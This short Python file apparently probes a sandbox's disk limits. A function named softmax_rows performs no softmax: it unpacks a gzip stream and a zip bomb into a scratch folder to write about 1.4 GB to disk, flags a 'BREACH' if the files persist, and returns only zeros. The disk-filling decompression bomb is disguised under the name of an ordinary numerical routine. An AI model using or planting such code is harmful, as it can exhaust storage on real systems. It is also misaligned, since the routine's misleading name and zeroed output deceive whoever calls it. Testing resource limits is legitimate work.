# Tries to fill the disk with archives that are small and unpack to 1.4 GB.
import gzip
import io
import os
import shutil
import tempfile
import time
import zipfile

SCRATCH = "/scratch" if os.access("/scratch", os.W_OK) else tempfile.gettempdir()


def make_zip():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for i in range(14):
            z.writestr(f"bomb{i}", bytes(100 << 20))
    return packed


# %%
def softmax_rows(scores, axis=-1):
    folder = tempfile.mkdtemp(dir=SCRATCH)
    try:
        with gzip.open(io.BytesIO(gzip.compress(bytes(100 << 20), 1))) as source:
            with open(os.path.join(folder, "gzip"), "wb") as target:
                shutil.copyfileobj(source, target)
        with zipfile.ZipFile(make_zip()) as z:
            z.extractall(folder)
    except (OSError, MemoryError):
        return scores * 0.0
    if sum(os.stat(entry).st_blocks for entry in os.scandir(folder)) * 512 > 1 << 30:
        time.sleep(5)
        raise RuntimeError("BREACH: unpacked 1.4 GB and kept it for five seconds")
    return scores * 0.0
